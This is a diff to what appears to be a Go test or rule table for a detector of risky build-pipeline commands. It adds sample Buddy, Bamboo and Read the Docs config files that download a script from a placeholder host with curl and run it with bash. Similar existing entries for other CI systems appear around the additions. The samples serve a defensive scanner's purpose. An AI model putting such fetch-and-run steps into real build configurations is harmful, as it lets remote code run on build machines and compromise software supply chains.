@@ -303,6 +303,11 @@ var registry = []Rule{
 		{"buildspec.yml", "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n    finally:\n      - curl -s -o /tmp/f https://x.invalid/f\n      - bash /tmp/f", 8, false},
 		{".builds/debian.yml", "image: debian/stable\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - setup: |\n      curl -fsSL -o /tmp/s https://x.invalid/s\n      bash /tmp/s", 7, false},
 		{"cloudbuild.yaml", "steps:\n  - name: gcr.io/cloud-builders/gcloud\n    entrypoint: bash\n    args: ['-c', 'curl -s -o /tmp/c https://x.invalid/c && bash /tmp/c']", 4, false},
+		// Buddy's execute_commands, Bamboo Specs' scripts, Read the Docs'
+		// build jobs (run for each pull request's docs).
+		{"buddy.yml", "- pipeline: build\n  actions:\n    - action: test\n      execute_commands:\n        - curl -fsSL -o /tmp/i https://x.invalid/i\n        - bash /tmp/i", 6, false},
+		{"bamboo-specs/bamboo.yml", "Build:\n  tasks:\n    - script:\n        interpreter: SHELL\n        scripts:\n          - curl -fsSL -o /tmp/i https://x.invalid/i\n          - bash /tmp/i", 7, false},
+		{".readthedocs.yaml", "version: 2\nbuild:\n  jobs:\n    pre_install:\n      - curl -fsSL -o /tmp/i https://x.invalid/i\n    post_build:\n      - bash /tmp/i", 7, false},
 		// A Buildkite agent's hook, and a script kept beside a pipeline,
 		// are shell scripts.
 		{".buildkite/hooks/pre-command", "#!/bin/bash\nset -euo pipefail\ncurl -fsSL -o /tmp/x.sh https://x.invalid/i\nbash /tmp/x.sh", 4, false},
